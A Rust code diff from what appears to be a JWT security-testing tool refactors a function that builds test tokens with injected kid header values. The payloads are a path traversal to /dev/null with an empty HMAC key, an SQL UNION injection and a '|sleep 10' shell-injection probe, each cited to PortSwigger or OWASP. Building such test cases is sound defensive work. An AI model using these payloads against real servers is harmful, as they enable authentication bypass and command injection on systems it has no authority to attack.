@@ -95,15 +95,25 @@ pub(super) fn empty_key(orig: &Original) -> Result<Draft, AttackError> {
 
 const KID_MUST: &str = "Reject it: kid must only select a key from the server's own list of trusted keys (an exact lookup); it must never reach a file path, an SQL query or a shell, and an unknown kid is a rejection.";
 
+/// One kid injection: id, name, kid value, the key it selects, explanation, reference.
+type KidCase = (
+    &'static str,
+    &'static str,
+    &'static str,
+    &'static [u8],
+    &'static str,
+    &'static str,
+);
+
 /// kid values that reach a file path, an SQL query and a shell, MACed with what they select.
 pub(super) fn kid_injection(orig: &Original) -> Result<Vec<Draft>, AttackError> {
-    let cases: [(&str, &str, &str, &[u8], String, &str); 3] = [
+    let cases: [KidCase; 3] = [
         (
             "kid-path-traversal",
             "kid path traversal to /dev/null, HS256 with an empty key",
             "../../../../../../dev/null",
             b"",
-            "The kid climbs out of the key folder to /dev/null. A server that reads the HMAC key from a file named by kid reads zero bytes, and this token is MACed with exactly that empty key.".to_string(),
+            "The kid climbs out of the key folder to /dev/null. A server that reads the HMAC key from a file named by kid reads zero bytes, and this token is MACed with exactly that empty key.",
             "PortSwigger Web Security Academy lab \"JWT authentication bypass via kid header path traversal\", https://portswigger.net/web-security/jwt/lab-jwt-authentication-bypass-via-kid-header-path-traversal",
         ),
         (
@@ -111,7 +121,7 @@ pub(super) fn kid_injection(orig: &Original) -> Result<Vec<Draft>, AttackError> 
             "kid SQL injection selecting the key \"key\", HS256",
             "' UNION SELECT 'key' --",
             b"key",
-            "The kid closes a string in an SQL query and unions in a constant. A server that looks keys up with SELECT ... WHERE kid = '<kid>' built by string concatenation gets back the key \"key\", and this token is MACed with exactly that.".to_string(),
+            "The kid closes a string in an SQL query and unions in a constant. A server that looks keys up with SELECT ... WHERE kid = '<kid>' built by string concatenation gets back the key \"key\", and this token is MACed with exactly that.",
             "PortSwigger Web Security Academy, \"JWT attacks\", section on the kid parameter, https://portswigger.net/web-security/jwt",
         ),
         (
@@ -119,7 +129,7 @@ pub(super) fn kid_injection(orig: &Original) -> Result<Vec<Draft>, AttackError> 
             "kid command injection (|sleep 10), HS256 with an empty key",
             "key.pem|sleep 10",
             b"",
-            "A probe, not a forgery: the kid carries a shell pipe. If the server passes kid to a shell (to read or convert a key file), its response comes about 10 seconds late; the signature is only an empty-key HMAC. Time the response against your own service, never against anyone else's.".to_string(),
+            "A probe, not a forgery: the kid carries a shell pipe. If the server passes kid to a shell (to read or convert a key file), its response comes about 10 seconds late; the signature is only an empty-key HMAC. Time the response against your own service, never against anyone else's.",
             "PortSwigger Web Security Academy, \"JWT attacks\", section on the kid parameter, https://portswigger.net/web-security/jwt; OWASP Web Security Testing Guide, Testing JSON Web Tokens",
         ),
     ];
